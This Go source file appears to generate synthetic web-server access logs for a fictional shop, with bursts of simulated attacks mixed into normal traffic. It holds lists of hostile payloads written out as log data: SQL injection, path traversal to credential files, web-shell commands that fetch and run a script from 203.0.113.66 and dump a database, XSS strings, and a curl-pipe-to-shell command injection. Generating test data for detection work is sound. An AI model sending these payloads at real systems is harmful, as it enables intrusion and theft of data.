package loggen

import "strconv"

// Browser and bot user agents, as real sites see them (current releases of
// Chrome, Firefox, Safari, Edge and the big crawlers).
var browserUAs = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
	"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
	"Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36",
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
}

var botUAs = []string{
	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
	"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/131.0.6778.69 Safari/537.36",
	"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
	"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
	"Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
	"Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
	"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
}

var (
	categories = []string{"shoes", "bags", "outdoor", "kitchen", "garden", "books", "toys", "electronics", "sale", "new-arrivals", "men", "women", "kids", "sports", "beauty"}
	words      = []string{"red", "blue", "black", "white", "leather", "running", "shoes", "bag", "jacket", "cotton", "wool", "kids", "summer", "winter", "sale", "organic", "coffee", "mug", "lamp", "desk", "chair", "phone", "case", "charger", "cable", "book", "novel", "gift", "tent", "boots", "socks", "watch", "ring", "kettle", "pan", "knife", "tokyo", "osaka", "vintage", "large", "small", "set", "pack", "green", "bamboo", "steel", "glass", "silk", "denim", "linen"}
	assets     = []string{"/static/css/app.3f9a1c.css", "/static/css/vendor.77b0e2.css", "/static/js/app.a81c3d.js", "/static/js/vendor.0c44f1.js", "/static/js/runtime.19e2aa.js", "/static/fonts/inter-var.woff2", "/favicon.ico", "/static/img/logo.svg", "/static/img/hero-1600.webp", "/static/img/sprite.png", "/apple-touch-icon.png", "/manifest.json"}
	blogSlugs  = []string{"how-to-choose-running-shoes", "spring-collection", "care-guide-leather", "shipping-update", "gift-ideas", "behind-the-seams", "size-guide", "sustainability-report"}
	referers   = []string{"https://www.google.com/", "https://www.bing.com/", "https://duckduckgo.com/", "https://t.co/", "https://www.facebook.com/", "https://shop.example.com/", "https://shop.example.com/cart", "https://shop.example.com/search?q=shoes"}
)

// Attack material: payloads as attack tools put them on the wire (and so in
// the log), percent-encoded. sqlmap, Nikto, nuclei and a PHP web shell are the
// usual suspects in real incident logs.
var (
	sqliPayloads = []string{
		"1%27%20AND%201=1--%20-",
		"1%27%20OR%20%271%27=%271",
		"1%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--%20-",
		"-1%27%20UNION%20SELECT%20username,password,3%20FROM%20users--%20-",
		"1%27%20AND%20SLEEP(5)--%20-",
		"1%29%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,(SELECT%20version())))--%20-",
		"1%27%20AND%20(SELECT%202931%20FROM%20(SELECT(SLEEP(5)))abc)--%20kGhT",
		"1;SELECT%20pg_sleep(5)--",
		"1%27%20ORDER%20BY%2010--%20-",
		"1%20AND%201=CONVERT(int,(SELECT%20@@version))",
	}
	sqliUAs        = []string{"sqlmap/1.7.2#stable (https://sqlmap.org)", "sqlmap/1.8.3#stable (https://sqlmap.org)"}
	traversalPaths = []string{
		"/download.php?file=../../../../etc/passwd",
		"/download.php?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
		"/static/..%2f..%2f..%2f..%2fetc/shadow",
		"/index.php?page=....//....//....//etc/passwd",
		"/image.php?src=../../../../proc/self/environ",
		"/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
		"/view?template=..\\..\\..\\windows\\win.ini",
	}
	scannerPaths = []string{"/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/setup-config.php", "/phpmyadmin/index.php", "/pma/", "/admin.php", "/server-status", "/actuator/env", "/config.json", "/backup.zip", "/db.sql", "/.aws/credentials", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/test.cgi", "/solr/admin/info/system", "/xmlrpc.php", "/.DS_Store", "/api/v1/users/../../admin", "/HNAP1/", "/boaform/admin/formLogin"}
	scannerUAs   = []string{"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.5414.120 Safari/537.36 nuclei", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "gobuster/3.6", "Mozilla/5.0 zgrab/0.x", "python-requests/2.31.0", "Wfuzz/3.1.0", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"}
	shellCmds    = []string{"id", "whoami", "uname+-a", "cat+/etc/passwd", "ls+-la+/var/www", "cat+../config/database.yml", "wget+http://203.0.113.66/x.sh+-O+/tmp/x.sh", "bash+/tmp/x.sh", "mysqldump+-uapp+-p%27secret%27+shop+%3E+/tmp/d.sql", "tar+czf+/tmp/d.tgz+/tmp/d.sql"}
	xssPayloads  = []string{"%3Cscript%3Ealert(1)%3C/script%3E", "%22%3E%3Csvg/onload=alert(document.domain)%3E", "javascript:alert(1)", "%3Cimg%20src=x%20onerror=alert(1)%3E"}
	cmdiPayloads = []string{"127.0.0.1%3Bcat%20/etc/passwd", "127.0.0.1%7Cid", "%60id%60", "127.0.0.1%26%26curl%20http://203.0.113.66/s%7Csh", "$(whoami)"}
)

// Attack kinds of the access log, with the mean number of lines of a burst.
const (
	aSQLi = iota
	aTraversal
	aScanner
	aShell
	aEnum
	aXSS
	aCmdi
)

var accessAttackLens = [...][2]int{ // min, max lines of a burst
	aSQLi:      {5, 40},
	aTraversal: {2, 12},
	aScanner:   {20, 120},
	aShell:     {2, 12},
	aEnum:      {100, 300},
	aXSS:       {1, 6},
	aCmdi:      {1, 6},
}

type accessGen struct {
	*gen
	clients   []string
	attackers []string
	hashes    []string
	normal    weighted
	attacks   weighted
	meanLen   float64
	b         burst
}

func newAccess(g *gen) line {
	a := &accessGen{gen: g, clients: ipPool(g, 40000, true), attackers: ipPool(g, 8, true), hashes: hexPool(g, 64, 8)}
	// static, page, product, search, api, bot, login, 404/304 misc
	a.normal = newWeighted(42, 12, 14, 7, 10, 8, 2, 5)
	a.attacks = newWeighted(25, 15, 25, 5, 15, 10, 5)
	var sum float64
	for k, w := range a.attacks.cum {
		prev := 0
		if k > 0 {
			prev = a.attacks.cum[k-1]
		}
		sum += float64(w-prev) * float64(accessAttackLens[k][0]+accessAttackLens[k][1]) / 2
	}
	a.meanLen = sum / float64(a.attacks.total)
	a.b.left = 0
	return a.next
}

func (a *accessGen) next(b []byte) ([]byte, int, bool) {
	a.clock.advance(a.gen, 20)
	if a.b.left == 0 && a.startAttack(a.meanLen) {
		k := a.attacks.pick(a.gen)
		lo, hi := accessAttackLens[k][0], accessAttackLens[k][1]
		a.b = burst{kind: k, left: lo + a.r.IntN(hi-lo+1), actor: a.r.IntN(len(a.attackers)), base: 1000 + a.r.IntN(50000)}
	}
	if a.b.left > 0 {
		a.b.left--
		a.b.n++
		return a.attackLine(b), 1, true
	}
	return a.normalLine(b), 1, false
}

// head appends `IP - - [time] "`.
func (a *accessGen) head(b []byte, ip, user string) []byte {
	b = append(b, ip...)
	b = append(b, " - "...)
	b = append(b, user...)
	b = append(b, " ["...)
	b = append(b, a.clock.access...)
	return append(b, "] \""...)
}

// tail appends `" status bytes "referer" "ua"\n`.
func tail(b []byte, status, size int, referer, ua string) []byte {
	b = append(b, " HTTP/1.1\" "...)
	b = strconv.AppendInt(b, int64(status), 10)
	b = append(b, ' ')
	b = strconv.AppendInt(b, int64(size), 10)
	b = append(b, " \""...)
	b = append(b, referer...)
	b = append(b, "\" \""...)
	b = append(b, ua...)
	return append(b, "\"\n"...)
}

func (a *accessGen) normalLine(b []byte) []byte {
	ip := a.clients[a.skewed(len(a.clients))]
	ua := browserUAs[a.skewed(len(browserUAs))]
	ref := "-"
	if a.r.IntN(3) > 0 {
		ref = pick(a.gen, referers)
	}
	status, size := 200, 0
	switch a.normal.pick(a.gen) {
	case 0: // static asset
		b = a.head(b, ip, "-")
		b = append(b, "GET "...)
		if a.r.IntN(3) == 0 {
			b = append(b, "/images/products/"...)
			b = strconv.AppendInt(b, int64(a.skewed(20000)+1), 10)
			b = append(b, "-600.webp"...)
		} else {
			b = append(b, pick(a.gen, assets)...)
		}
		if a.r.IntN(8) == 0 {
			status = 304
		} else {
			size = 800 + a.r.IntN(180000)
		}
	case 1: // page
		b = a.head(b, ip, "-")
		b = append(b, "GET "...)
		switch a.r.IntN(6) {
		case 0:
			b = append(b, '/')
		case 1, 2:
			b = append(b, "/category/"...)
			b = append(b, pick(a.gen, categories)...)
			if a.r.IntN(3) == 0 {
				b = append(b, "?page="...)
				b = strconv.AppendInt(b, int64(2+a.r.IntN(20)), 10)
			}
		case 3:
			b = append(b, "/blog/2026/"...)
			b = append(b, pick(a.gen, blogSlugs)...)
		case 4:
			b = append(b, "/cart"...)
		default:
			b = append(b, "/mypage.php?id="...)
			b = strconv.AppendInt(b, int64(1000+a.r.IntN(90000)), 10)
		}
		size = 9000 + a.r.IntN(60000)
	case 2: // product page
		b = a.head(b, ip, "-")
		b = append(b, "GET /product/"...)
		b = strconv.AppendInt(b, int64(a.skewed(20000)+1), 10)
		if a.r.IntN(4) == 0 {
			b = append(b, "?utm_source=newsletter&utm_medium=email&utm_campaign=w"...)
			b = strconv.AppendInt(b, int64(1+a.r.IntN(52)), 10)
		}
		size = 15000 + a.r.IntN(40000)
	case 3: // search
		b = a.head(b, ip, "-")
		b = append(b, "GET /search?q="...)
		b = append(b, pick(a.gen, words)...)
		if a.r.IntN(2) == 0 {
			b = append(b, '+')
			b = append(b, pick(a.gen, words)...)
		}
		if a.r.IntN(4) == 0 {
			b = append(b, "&page="...)
			b = strconv.AppendInt(b, int64(2+a.r.IntN(9)), 10)
		}
		size = 5000 + a.r.IntN(40000)
	case 4: // API (the shop's own front end)
		b = a.head(b, ip, "-")
		switch a.r.IntN(4) {
		case 0:
			b = append(b, "POST /api/v1/cart/items"...)
			status, size = 201, 120+a.r.IntN(400)
		case 1:
			b = append(b, "GET /api/v1/session"...)
			size = 60 + a.r.IntN(200)
		default:
			b = append(b, "GET /api/v1/products?category="...)
			b = append(b, pick(a.gen, categories)...)
			b = append(b, "&limit=24&offset="...)
			b = strconv.AppendInt(b, int64(24*a.r.IntN(30)), 10)
			size = 2000 + a.r.IntN(30000)
		}
		ref = "https://shop.example.com/"
	case 5: // crawler
		ua = pick(a.gen, botUAs)
		ip = a.clients[a.r.IntN(64)] // crawlers come from a few addresses
		b = a.head(b, ip, "-")
		switch a.r.IntN(5) {
		case 0:
			b = append(b, "GET /robots.txt"...)
			size = 312
		case 1:
			b = append(b, "GET /sitemap.xml"...)
			size = 48211
		default:
			b = append(b, "GET /product/"...)
			b = strconv.AppendInt(b, int64(1+a.r.IntN(20000)), 10)
			size = 15000 + a.r.IntN(40000)
		}
		ref = "-"
	case 6: // login, with the occasional wrong password
		user := "-"
		b = a.head(b, ip, user)
		if a.r.IntN(2) == 0 {
			b = append(b, "GET /login"...)
			size = 4200
		} else {
			b = append(b, "POST /login"...)
			status, size = 302, 0
			if a.r.IntN(6) == 0 {
				status, size = 200, 4380
			}
		}
		ref = "https://shop.example.com/login"
	default: // misc: missing files, HEAD checks, not-modified pages
		b = a.head(b, ip, "-")
		switch a.r.IntN(3) {
		case 0:
			b = append(b, "GET /apple-touch-icon-precomposed.png"...)
			status, size = 404, 153
		case 1:
			b = append(b, "HEAD /"...)
			size = 0
			ua = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"
			ref = "-"
		default:
			b = append(b, "GET /product/"...)
			b = strconv.AppendInt(b, int64(a.skewed(20000)+1), 10)
			status = 304
		}
	}
	return tail(b, status, size, ref, ua)
}

func (a *accessGen) attackLine(b []byte) []byte {
	ip := a.attackers[a.b.actor]
	ref, status, size := "-", 200, 0
	var ua string
	b = a.head(b, ip, "-")
	switch a.b.kind {
	case aSQLi:
		ua = sqliUAs[a.b.actor%len(sqliUAs)]
		b = append(b, "GET /mypage.php?id="...)
		b = append(b, pick(a.gen, sqliPayloads)...)
		status, size = 200, 2210
		if a.r.IntN(3) == 0 {
			status, size = 500, 612
		}
	case aTraversal:
		ua = "curl/8.5.0"
		b = append(b, "GET "...)
		b = append(b, pick(a.gen, traversalPaths)...)
		status, size = 400, 157
		if a.r.IntN(4) == 0 {
			status, size = 404, 153
		}
	case aScanner:
		ua = scannerUAs[a.b.actor%len(scannerUAs)]
		b = append(b, "GET "...)
		b = append(b, pick(a.gen, scannerPaths)...)
		status, size = 404, 153
	case aShell:
		ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
		name := a.hashes[a.b.base%len(a.hashes)]
		if a.b.n == 1 {
			b = append(b, "POST /account/avatar"...)
			status, size = 302, 0
		} else {
			b = append(b, "GET /uploads/avatars/"...)
			b = append(b, name...)
			b = append(b, ".php?cmd="...)
			b = append(b, pick(a.gen, shellCmds)...)
			size = 40 + a.r.IntN(4000)
		}
	case aEnum:
		ua = "python-requests/2.31.0"
		b = append(b, "GET /mypage.php?id="...)
		b = strconv.AppendInt(b, int64(a.b.base+a.b.n), 10)
		size = 2000 + a.r.IntN(600)
	case aXSS:
		ua = pick(a.gen, browserUAs)
		b = append(b, "GET /search?q="...)
		b = append(b, pick(a.gen, xssPayloads)...)
		size = 5100
	default: // command injection
		ua = "curl/8.5.0"
		b = append(b, "GET /tools/ping.php?host="...)
		b = append(b, pick(a.gen, cmdiPayloads)...)
		size = 320
	}
	return tail(b, status, size, ref, ua)
}
